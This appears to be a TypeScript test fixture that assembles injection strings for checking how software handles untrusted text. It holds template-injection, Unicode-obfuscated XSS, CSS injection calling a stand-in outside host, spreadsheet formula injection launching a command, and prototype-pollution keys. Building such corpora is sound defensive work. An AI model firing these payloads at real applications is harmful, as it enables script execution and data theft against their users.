// Which strings try to run something, wherever a string of other people's is shown or read?

import { REACHING_KEYS } from './keys.ts'
import { MARKUP } from './markup.ts'
import { RUN, STRANGER } from './run.ts'
import { URLS } from './urls.ts'

/** In links and pictures, as articles hold them. */
const links = URLS.filter((url) => url !== '').flatMap((url) => [
  url,
  `<a href="${url.replaceAll('"', '&quot;')}">x</a>`,
])

const TEMPLATES = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${RUN}')}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[\${${RUN}}]]`,
  `{%if 1%}${RUN}{%endif%}`,
  `{link}`,
  `{title}`,
  `{count}`,
  `{{ticket.requester.name}}`,
  `$&$1$'$\``,
  `%s%n%d`,
]

const UNICODE = [
  `\u202e<img src=x onerror=${RUN}>`,
  `\u2066</script>\u2069`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `<img src=x onerror\u0000=${RUN}>`,
  `<\u0000script>${RUN}</script>`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%C0%BCscript%C0%BE${RUN}`,
  `\u2028${RUN}\u2029`,
  `\ud800<img src=x onerror=${RUN}>`,
  `\udc00\ud800`,
  `\ufeff<script>${RUN}</script>`,
  `Z\u0335\u0321\u0322\u031b\u0337a\u0336\u0315l\u0334\u035cg\u0337\u035do\u0338`,
  `<ſcript>${RUN}</ſcript>`,
  `<ıframe onload=${RUN}>`,
]

const STYLES = [
  `</style><img src=x onerror=${RUN}>`,
  `<style>@import '${STRANGER}/x.css';</style>`,
  `<style>*{background:url(${STRANGER}/x)}</style>`,
  `<p style="background:url(${STRANGER}/x)">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="-moz-binding:url(${STRANGER}/x#x)">x</p>`,
  `<p style="behavior:url(${STRANGER}/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `;}*{display:none}`,
  `<div style="background-image:url(javascript:${RUN})">x</div>`,
]

const FORMULAS = [
  `=HYPERLINK("${STRANGER}","x")`,
  `=cmd|'/C calc'!A0`,
  `+1+cmd|'/C calc'!A0`,
  `-1+1`,
  `@SUM(1)`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(1)`,
]

const KEYS = [
  ...REACHING_KEYS,
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'constructor.prototype.ran',
  '__proto__[ran]',
]

/** Each once. */
export const STRINGS: readonly string[] = [
  ...new Set([...MARKUP, ...links, ...TEMPLATES, ...UNICODE, ...STYLES, ...FORMULAS, ...KEYS]),
]
